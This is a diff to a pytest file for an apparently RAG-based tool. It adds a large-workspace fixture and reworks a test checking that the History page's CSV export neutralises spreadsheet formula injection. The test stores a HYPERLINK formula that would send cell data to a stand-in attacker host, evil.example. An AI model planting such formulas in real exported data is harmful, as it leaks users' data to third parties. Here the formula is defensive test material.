@@ -100,6 +100,22 @@ def seeded(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Path:
     return data
 
 
+@pytest.fixture(scope="session")
+def seeded_big(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Path:
+    """Workspace ``team`` with one document of 1,300 small chunks: chroma persists its HNSW index."""
+    root = tmp_path_factory.mktemp("hostile-seed-big")
+    home = root / "home"
+    home.mkdir()
+    text = "# Lockers\n\n" + "\n\n".join(
+        f"Paragraph {i} says the locker {i} code is {i * 7919 % 10000:04d}." for i in range(2600))
+    path = hf.write(root / "docs", "lockers.md", text)
+    env = cli_env(root / "data", tiny_model, home, {"RAGTUNE_CHUNK_SIZE": "100", "RAGTUNE_CHUNK_OVERLAP": "0"})
+    run = run_cli(["ingest", "-w", "team", str(path)], env, cwd=root, timeout=600)
+    assert run.rc == 0, run.describe()
+    assert hf.chunk_counts(root / "data")["team"] > 1000, run.describe()
+    return root / "data"
+
+
 @pytest.fixture()
 def work(tmp_path: Path, seeded: Path) -> Path:
     """A case's folder: ``data`` is a fresh copy of the seeded data dir; ``home`` its HOME.
@@ -119,6 +135,9 @@ def check_output(case: Case, run: Run) -> None:
     text = run.stderr if case.where == "stderr" else run.output
     for regex in case.message:
         assert re.search(regex, text, flags=re.IGNORECASE), f"no message matching {regex!r}{run.describe()}"
+    if run.rc != 0:
+        for regex in case.message_if_failed:
+            assert re.search(regex, text, flags=re.IGNORECASE), f"no reason matching {regex!r}{run.describe()}"
     for regex in case.forbid:
         assert not re.search(regex, run.output), f"output matches forbidden {regex!r}{run.describe()}"
     if case.one_error_line:
@@ -151,10 +170,13 @@ def check_store(case: Case, run: Run, data: Path, before: dict[str, object]) -> 
 
 
 @pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
-def test_hostile_input(case: Case, work: Path, tiny_model: Path) -> None:
+def test_hostile_input(case: Case, work: Path, tiny_model: Path, request: pytest.FixtureRequest) -> None:
     if case.root_skips and os.geteuid() == 0:
         pytest.skip("running as root: file permissions do not apply")
     data = work / "data"
+    if case.seed == "big":
+        shutil.rmtree(data)
+        shutil.copytree(request.getfixturevalue("seeded_big"), data)
     values = {"work": str(work), "data": str(data), "model": str(tiny_model)}
     if case.files is not None:
         case.files(work, tiny_model)
@@ -277,36 +299,36 @@ def _logged(query: str, answer_text: str) -> object:
         update={"query": query, "text": parsed.to_json(), "parse": ParseReport(status="ok", parsed=parsed)})
 
 
-def _download_data(at: object, label: str) -> bytes:
-    from streamlit.runtime import Runtime
-
-    button = next(b for b in at.get("download_button") if b.proto.label == label)
-    url = button.proto.url
-    manager = Runtime.instance().media_file_mgr
-    file_id = url.rsplit("/", 1)[-1].split(".")[0]
-    return manager._storage.get_file(file_id).content
-
-
-def test_ui_history_csv_export_neutralises_a_formula_query(web: None, data_dir: Path) -> None:
+def test_ui_history_csv_export_neutralises_a_formula_query(
+    web: None, data_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from streamlit.runtime.media_file_manager import MediaFileManager
     from streamlit.testing.v1 import AppTest
 
     from ragtune.config import load_settings
     from ragtune.store import QueryLog
 
+    served: list[bytes] = []  # what the page hands Streamlit to serve as downloads
+    original_add = MediaFileManager.add
+
+    def recording_add(self: MediaFileManager, path_or_data: object, *args: object, **kwargs: object) -> str:
+        if isinstance(path_or_data, bytes):
+            served.append(path_or_data)
+        return original_add(self, path_or_data, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(MediaFileManager, "add", recording_add)
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
     QueryLog(load_settings().query_log_file).add(_logged(formula, "An answer."))
     at = AppTest.from_file(str(PROJECT_ROOT / "app_pages" / "history.py"), default_timeout=60).run()
     assert not at.exception, at.exception
-    try:
-        exported = _download_data(at, "Export these queries (CSV)").decode("utf-8")
-    except (StopIteration, AttributeError, KeyError, RuntimeError) as exc:  # AppTest internals differ
-        pytest.fail(f"cannot read the History export from the page: {exc!r}")
-    rows = list(csv.DictReader(io.StringIO(exported)))
-    queries = [r["query"] for r in rows]
-    assert queries == ["'" + formula], queries
+    assert any(b.proto.label == "Export these queries (CSV)" for b in at.get("download_button"))
+    exports = [data.decode("utf-8") for data in served if b"HYPERLINK" in data]
+    assert exports, "the export does not hold the logged query"
+    rows = list(csv.DictReader(io.StringIO(exports[-1])))
+    assert [r["query"] for r in rows] == ["'" + formula], [r["query"] for r in rows]
     for row in rows:
         for value in row.values():
-            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row
+            assert not (value or "").startswith(("=", "@", "\t", "\r")), row
 
 
 def test_ui_a_markdown_image_beacon_in_an_answer_is_rendered_escaped(web: None, data_dir: Path) -> None:
